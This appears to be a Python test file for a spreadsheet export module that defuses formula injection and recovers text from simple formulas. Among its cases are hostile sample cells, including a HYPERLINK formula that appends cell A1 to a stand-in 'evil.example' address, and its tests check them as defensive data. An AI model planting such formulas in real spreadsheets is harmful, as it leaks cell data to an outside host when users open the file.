"""No cell of an export is a formula, and every text comes back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.core.sheets.formulas import RISKY, escape, is_risky, neutralise, restore, text_of

# Texts of the kind that matters here come up by chance too seldom.
TEXTS = st.text() | st.from_regex(f"\\A'{{0,3}}[{RISKY}].{{0,3}}")


@given(TEXTS)
def test_what_is_neutralised_is_no_formula_and_comes_back(text: str) -> None:
    assert not is_risky(neutralise(text))
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_what_starts_a_formula(start: str) -> None:
    assert neutralise(f"{start}1") == f"'{start}1"


@given(TEXTS)
def test_what_is_escaped_comes_back(text: str) -> None:
    assert restore(escape(text)) == text


@given(st.text(st.characters(exclude_characters=f"'{RISKY}"), min_size=1), st.text())
def test_other_texts_stay(first: str, more: str) -> None:
    assert neutralise(first + more) == escape(first + more) == restore(first + more) == first + more


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        ("+91 98480 22338", "'+91 98480 22338"),
        ('=HYPERLINK("http://x.example")', '\'=HYPERLINK("http://x.example")'),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("'=1+1", "''=1+1"),
        ("''", "''"),
        ("O’Brien", "O’Brien"),
        ("'Aarav'", "'Aarav'"),
        ("", ""),
    ],
)
def test_examples(text: str, neutralised: str) -> None:
    assert neutralise(text) == neutralised


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ('="0123"', "0123"),
        ('= "0123"', "0123"),
        ('=("0123")', "0123"),
        ('=T("0123")', "0123"),
        ('="say ""hi"""', 'say "hi"'),
        ('="+91"&"98480"', "+9198480"),
        ('=CONCATENATE("+91", "98480")', "+9198480"),
        ('=""', ""),
        # What would have to be calculated
        ('="a"&B2', '="a"&B2'),
        ('=LEFT("0123",2)', '=LEFT("0123",2)'),
        ("=1+1", "=1+1"),
        ('=HYPERLINK("http://evil.example","x")', '=HYPERLINK("http://evil.example","x")'),
        ('=HYPERLINK("http://evil.example?"&A1,"x")', '=HYPERLINK("http://evil.example?"&A1,"x")'),
        ('="a', '="a'),
        ('=("a"', '=("a"'),
    ],
)
def test_a_formula_that_is_only_a_text(cell: str, text: str) -> None:
    assert text_of(cell) == text
